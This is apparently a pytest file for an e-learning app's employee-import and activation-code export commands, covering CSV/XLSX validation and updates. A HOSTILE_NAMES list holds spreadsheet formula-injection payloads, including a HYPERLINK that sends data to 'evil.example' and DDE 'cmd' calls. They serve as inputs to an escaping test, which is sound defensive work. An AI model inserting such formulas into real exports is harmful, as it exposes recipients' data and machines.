"""`elearn employees import FILE [--dry-run]` and `elearn employees codes [--out FILE]`."""

from __future__ import annotations

import csv
import io
import re
import stat
from datetime import timedelta

import pytest
from openpyxl import Workbook
from sqlalchemy import func, select

from elearn.extensions import db
from elearn.models import AuditLog, Course, Enrollment, ModuleProgress, OrgUnit, Position, User
from elearn.models.base import utcnow
from tests.helpers import TEST_PASSWORD

HEADER = "nip,nama,email,jenis_pegawai,kode_unit,kode_jabatan,golongan"
SITI = "198609262015051001"
BUDI = "199001012019031003"
DEWI = "199203152021131002"  # NI PPPK: 13 is a batch code
CODE = re.compile(r"^[A-HJ-NP-Z2-9]{4}-[A-HJ-NP-Z2-9]{4}$")

GOOD_ROWS = [
    f"{SITI},Siti Rahmawati,Siti@Medan.go.id,PNS,DISKOMINFO,JF-AK-1,iii/a",
    "19900101 201903 1 003,Budi Santoso,,pns,BKPSDM,,II/c",
    f"{DEWI},Dewi Lestari,dewi@medan.go.id,PPPK,DISKOMINFO,PLK-ADM,ix",
]


@pytest.fixture
def org(runner, tmp_path):
    """Units through `org import` as HR would; positions as rows."""
    path = tmp_path / "org.csv"
    path.write_text(
        "kode,nama,kode_induk\n"
        "PEMKO,Pemerintah Kota Medan,\n"
        "DISKOMINFO,Dinas Komunikasi dan Informatika,PEMKO\n"
        "BKPSDM,Badan Kepegawaian dan Pengembangan SDM,PEMKO\n",
        encoding="utf-8",
    )
    result = runner.invoke(args=["org", "import", str(path)])
    assert result.exit_code == 0, result.output
    pemko = unit_id("PEMKO")  # positions belong to a government (issue 12)
    db.session.add_all(
        [
            Position(
                code="JF-AK-1",
                name="Analis Kepegawaian Ahli Pertama",
                type="fungsional",
                government_id=pemko,
            ),
            Position(
                code="PLK-ADM", name="Pengadministrasi Umum", type="pelaksana", government_id=pemko
            ),
        ]
    )
    db.session.commit()
    return path


def write_csv(tmp_path, rows, name="pegawai.csv"):
    path = tmp_path / name
    path.write_text("\n".join([HEADER, *rows]) + "\n", encoding="utf-8")
    return path


def run(runner, *args):
    return runner.invoke(args=["employees", *map(str, args)])


def users() -> dict[str, User]:
    db.session.expire_all()
    return {u.username: u for u in db.session.scalars(select(User))}


def user_count() -> int:
    db.session.expire_all()
    return db.session.scalar(select(func.count(User.id)))


def unit_id(code: str) -> int:
    return db.session.scalar(select(OrgUnit.id).where(OrgUnit.code == code))


def position_id(code: str) -> int:
    return db.session.scalar(select(Position.id).where(Position.code == code))


# --- refusing a wrong file --------------------------------------------------------------------


def test_two_bad_rows_are_both_reported_and_nothing_is_written(runner, org, tmp_path):
    rows = list(GOOD_ROWS)
    rows[0] = rows[0].replace(SITI, "19860926201505100")  # 17 digits
    rows[2] = rows[2].replace(",ix", ",IV/a")  # a PNS rank for a PPPK employee
    path = write_csv(tmp_path, rows)

    result = run(runner, "import", path)

    assert result.exit_code == 1
    assert f"{path}: baris 2, kolom nip: NIP harus 18 angka; yang dimasukkan 17 angka." in (
        result.stdout
    )
    assert (
        f"{path}: baris 4, kolom golongan: golongan `IV/a` tidak dikenal untuk PPPK "
        "(I sampai XVII)" in result.stdout
    )
    assert "2 kesalahan; tidak ada yang disimpan." in result.stderr
    assert "Traceback" not in result.output
    assert user_count() == 0


def test_after_fixing_dry_run_counts_and_writes_nothing(runner, org, tmp_path):
    path = write_csv(tmp_path, GOOD_ROWS)

    result = run(runner, "import", path, "--dry-run")

    assert result.exit_code == 0, result.output
    assert (
        "Pratinjau: 3 pegawai baru, 0 diperbarui, 0 tidak berubah. Belum ada yang disimpan."
        in result.output
    )
    assert user_count() == 0
    assert not db.session.scalars(
        select(AuditLog).where(AuditLog.action == "employees.import")
    ).all()


def test_unreadable_file_is_a_clean_error(runner, org, tmp_path):
    path = tmp_path / "pegawai.csv"
    path.write_bytes(f"{HEADER}\n{SITI},Sité,,PNS,BKPSDM,,\n".encode("cp1252"))
    result = run(runner, "import", path)
    assert result.exit_code == 1
    assert "bukan UTF-8" in result.output
    assert "Traceback" not in result.output
    assert user_count() == 0


# --- writing ----------------------------------------------------------------------------------


def test_import_creates_learners_with_codes(runner, org, tmp_path):
    path = write_csv(tmp_path, GOOD_ROWS)
    before = utcnow()

    result = run(runner, "import", path)

    assert result.exit_code == 0, result.output
    assert "Tersimpan: 3 pegawai baru, 0 diperbarui, 0 tidak berubah." in result.output
    assert "elearn employees codes" in result.output
    found = users()
    assert set(found) == {SITI, BUDI, DEWI}
    siti, budi, dewi = found[SITI], found[BUDI], found[DEWI]
    assert siti.full_name == "Siti Rahmawati" and siti.email == "siti@medan.go.id"
    assert (siti.employee_type, siti.rank) == ("PNS", "III/a")
    assert (siti.unit.code, siti.position.code) == ("DISKOMINFO", "JF-AK-1")
    assert (budi.employee_type, budi.rank, budi.unit.code) == ("PNS", "II/c", "BKPSDM")
    assert budi.email is None and budi.position is None
    assert (dewi.employee_type, dewi.rank, dewi.position.code) == ("PPPK", "IX", "PLK-ADM")
    codes = set()
    for user in found.values():
        assert user.roles == {"learner"}
        assert user.password_hash is None  # nobody can log in before activating
        assert user.active
        assert CODE.match(user.activation_code), user.activation_code
        days = user.activation_expires_at - before
        assert timedelta(days=29, hours=23) < days <= timedelta(days=30, minutes=5)
        codes.add(user.activation_code)
    assert len(codes) == 3
    (entry,) = db.session.scalars(select(AuditLog).where(AuditLog.action == "employees.import"))
    assert entry.details == {"new": 3, "updated": 0, "unchanged": 0}


def test_reimport_updates_by_nip_without_duplicates(runner, org, tmp_path):
    assert run(runner, "import", write_csv(tmp_path, GOOD_ROWS)).exit_code == 0
    first = users()
    ids = {nip: u.id for nip, u in first.items()}
    codes = {nip: u.activation_code for nip, u in first.items()}

    changed = list(GOOD_ROWS)
    # Same NIP typed with spaces, new name, moved unit; email and position left blank.
    changed[0] = "19860926 201505 1 001,Siti Rahmawati Lubis,,PNS,BKPSDM,,III/b"
    path = write_csv(tmp_path, changed, name="pegawai-2.csv")

    preview = run(runner, "import", path, "--dry-run")
    assert "Pratinjau: 0 pegawai baru, 1 diperbarui, 2 tidak berubah." in preview.output
    assert users()[SITI].full_name == "Siti Rahmawati"

    result = run(runner, "import", path)

    assert result.exit_code == 0, result.output
    assert "Tersimpan: 0 pegawai baru, 1 diperbarui, 2 tidak berubah." in result.output
    assert "elearn employees codes" not in result.output
    found = users()
    assert user_count() == 3
    assert {nip: u.id for nip, u in found.items()} == ids
    siti = found[SITI]
    assert siti.full_name == "Siti Rahmawati Lubis"
    assert (siti.unit.code, siti.rank) == ("BKPSDM", "III/b")
    # Blank optional cells keep what is stored.
    assert siti.email == "siti@medan.go.id" and siti.position.code == "JF-AK-1"
    assert {nip: u.activation_code for nip, u in found.items()} == codes

    again = run(runner, "import", path)
    assert "Tersimpan: 0 pegawai baru, 0 diperbarui, 3 tidak berubah." in again.output


def test_import_never_deletes_and_keeps_progress(runner, org, tmp_path, make_course):
    assert run(runner, "import", write_csv(tmp_path, GOOD_ROWS)).exit_code == 0
    folder = make_course()
    assert runner.invoke(args=["courses", "import", str(folder)]).exit_code == 0
    course = db.session.scalar(select(Course).where(Course.slug == "kursus-uji"))
    siti = users()[SITI]
    db.session.add(Enrollment(user_id=siti.id, course_id=course.id, last_module_slug="pengantar"))
    db.session.add(
        ModuleProgress(
            user_id=siti.id,
            course_id=course.id,
            module_slug="pengantar",
            version_id=course.live_version_id,
        )
    )
    db.session.commit()

    # Only Siti, with a new name and unit: the others are not in the file.
    path = write_csv(tmp_path, [f"{SITI},Siti R.,,PNS,BKPSDM,PLK-ADM,III/a"], name="satu.csv")
    result = run(runner, "import", path)

    assert result.exit_code == 0, result.output
    assert "0 pegawai baru, 1 diperbarui, 0 tidak berubah" in result.output
    found = users()
    assert set(found) == {SITI, BUDI, DEWI}
    assert found[SITI].id == siti.id and found[SITI].full_name == "Siti R."
    assert found[SITI].position.code == "PLK-ADM"
    enrolment = db.session.scalar(select(Enrollment).where(Enrollment.user_id == siti.id))
    assert enrolment.course_id == course.id and enrolment.last_module_slug == "pengantar"
    progress = db.session.scalars(select(ModuleProgress).where(ModuleProgress.user_id == siti.id))
    assert [p.module_slug for p in progress] == ["pengantar"]


def test_existing_account_with_that_nip_is_updated_not_duplicated(runner, org, tmp_path, make_user):
    existing = make_user(SITI, roles=("trainer", "learner"), full_name="Siti", email="s@x.go.id")
    result = run(runner, "import", write_csv(tmp_path, GOOD_ROWS[:1]))
    assert result.exit_code == 0, result.output
    assert "0 pegawai baru, 1 diperbarui, 0 tidak berubah" in result.output
    (siti,) = users().values()
    assert siti.id == existing.id
    assert siti.roles == {"trainer", "learner"}
    assert siti.check_password(TEST_PASSWORD)
    assert siti.activation_code is None
    assert (siti.full_name, siti.unit_id, siti.position_id) == (
        "Siti Rahmawati",
        unit_id("DISKOMINFO"),
        position_id("JF-AK-1"),
    )


def test_a_failure_while_writing_leaves_nothing_behind(runner, org, tmp_path, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError("disk penuh")

    monkeypatch.setattr("elearn.hr.services.audit.record", broken)
    result = run(runner, "import", write_csv(tmp_path, GOOD_ROWS))
    assert result.exit_code != 0
    assert isinstance(result.exception, RuntimeError)
    # The command runs in the test's app context (see conftest): end its session as the
    # process would, then look at what was committed.
    db.session.rollback()
    assert user_count() == 0


# --- activation codes -------------------------------------------------------------------------


def test_codes_are_written_to_a_private_csv(runner, org, tmp_path):
    assert run(runner, "import", write_csv(tmp_path, GOOD_ROWS)).exit_code == 0
    found = users()
    # A used code and an expired code are not handed out again.
    found[BUDI].activation_code = None
    found[BUDI].activation_expires_at = None
    found[DEWI].activation_expires_at = utcnow() - timedelta(minutes=1)
    db.session.commit()
    out = tmp_path / "kode.csv"

    result = run(runner, "codes", "--out", out)

    assert result.exit_code == 0, result.output
    assert f"Kode aktivasi ditulis ke {out}." in result.output
    assert found[SITI].activation_code not in result.output
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    siti = found[SITI]
    assert rows == [
        ["nip", "nama", "kode_aktivasi", "berlaku_sampai"],
        [SITI, "Siti Rahmawati", siti.activation_code, str(siti.activation_expires_at.date())],
    ]


def test_codes_without_out_go_to_stdout_in_name_order(runner, org, tmp_path):
    assert run(runner, "import", write_csv(tmp_path, GOOD_ROWS)).exit_code == 0
    found = users()
    result = run(runner, "codes")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.output)))
    assert rows[0] == ["nip", "nama", "kode_aktivasi", "berlaku_sampai"]
    assert [r[:3] for r in rows[1:]] == [
        [BUDI, "Budi Santoso", found[BUDI].activation_code],
        [DEWI, "Dewi Lestari", found[DEWI].activation_code],
        [SITI, "Siti Rahmawati", found[SITI].activation_code],
    ]


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_codes_out_escapes_names_a_spreadsheet_would_run(runner, org, tmp_path, name):
    assert run(runner, "import", write_csv(tmp_path, GOOD_ROWS)).exit_code == 0
    siti = users()[SITI]
    siti.full_name = name
    db.session.commit()
    out = tmp_path / "kode.csv"

    assert run(runner, "codes", "--out", out).exit_code == 0

    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))
    written = {row[0]: row for row in rows[1:]}
    # The NIP keeps its leading digits; only the text that starts a formula is quoted.
    assert written[SITI] == [
        SITI,
        "'" + name,
        siti.activation_code,
        str(siti.activation_expires_at.date()),
    ]
    assert written[BUDI][1] == "Budi Santoso"


# --- XLSX -------------------------------------------------------------------------------------


def write_xlsx(tmp_path, rows, name="pegawai.xlsx"):
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["NIP", "Nama", "Email", "Jenis Pegawai", "Kode Unit", "Kode Jabatan", "Golongan"])
    for values in rows:
        sheet.append(values)
    path = tmp_path / name
    workbook.save(path)
    return path


XLSX_ROWS = [
    [SITI, "Siti Rahmawati", "siti@medan.go.id", "PNS", "DISKOMINFO", "JF-AK-1", "III/a"],
    [None, None, None, None, None, None, None],
    ["19900101 201903 1 003", "Budi Santoso", None, "PNS", "BKPSDM", None, "II/c"],
    [DEWI, "Dewi Lestari", None, "PPPK", "DISKOMINFO", "PLK-ADM", "IX"],
]


def test_xlsx_import_works_the_same(runner, org, tmp_path):
    path = write_xlsx(tmp_path, XLSX_ROWS)

    preview = run(runner, "import", path, "--dry-run")
    assert "Pratinjau: 3 pegawai baru, 0 diperbarui, 0 tidak berubah." in preview.output
    assert user_count() == 0

    result = run(runner, "import", path)

    assert result.exit_code == 0, result.output
    assert "Tersimpan: 3 pegawai baru, 0 diperbarui, 0 tidak berubah." in result.output
    found = users()
    assert set(found) == {SITI, BUDI, DEWI}
    assert (found[DEWI].employee_type, found[DEWI].rank) == ("PPPK", "IX")
    assert found[BUDI].unit.code == "BKPSDM"
    assert all(CODE.match(u.activation_code) for u in found.values())

    # The same people from a CSV: nothing new; only Dewi gains the e-mail the XLSX lacked.
    again = run(runner, "import", write_csv(tmp_path, GOOD_ROWS))
    assert "0 pegawai baru, 1 diperbarui, 2 tidak berubah" in again.output
    assert users()[DEWI].email == "dewi@medan.go.id"
    assert user_count() == 3


def test_xlsx_numeric_nip_cell_is_refused_with_its_row(runner, org, tmp_path):
    rows = [list(r) for r in XLSX_ROWS]
    rows[2][0] = 199001012019031003
    path = write_xlsx(tmp_path, rows)

    result = run(runner, "import", path)

    assert result.exit_code == 1
    assert f"{path}: baris 4, kolom nip: NIP tersimpan sebagai angka di Excel" in result.output
    assert user_count() == 0


def test_broken_xlsx_is_a_clean_error(runner, org, tmp_path):
    path = tmp_path / "pegawai.xlsx"
    path.write_bytes(write_xlsx(tmp_path, XLSX_ROWS, name="asli.xlsx").read_bytes()[:500])
    result = run(runner, "import", path)
    assert result.exit_code == 1
    assert f"{path}: Berkas XLSX rusak atau bukan berkas Excel." in result.output
    assert "Traceback" not in result.output
